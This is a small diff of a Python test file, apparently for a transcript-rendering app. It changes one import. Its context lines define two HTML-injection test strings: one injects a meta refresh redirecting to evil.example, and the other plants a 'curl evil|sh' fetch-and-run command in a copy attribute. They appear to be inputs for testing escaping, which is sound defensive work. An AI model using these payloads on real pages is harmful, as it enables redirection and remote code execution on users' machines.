@@ -26,7 +26,8 @@ from projects.scoping import project_scope
 from sessionledger.core.formats.document import string_fields
 from sessions_app import blobs
 from sessions_app.models import Session
-from tests.client.transcript_builder import TranscriptBuilder, every_line_type
+from tests.client.sample_transcripts import every_line_type
+from tests.client.transcript_builder import TranscriptBuilder
 
 META_REFRESH = '2026-01-01T"><meta http-equiv="refresh" content="0;url=https://evil.example/"><x y="Z'
 COPY_ATTRIBUTE = 'x" id="p" data-copy="curl evil|sh"'
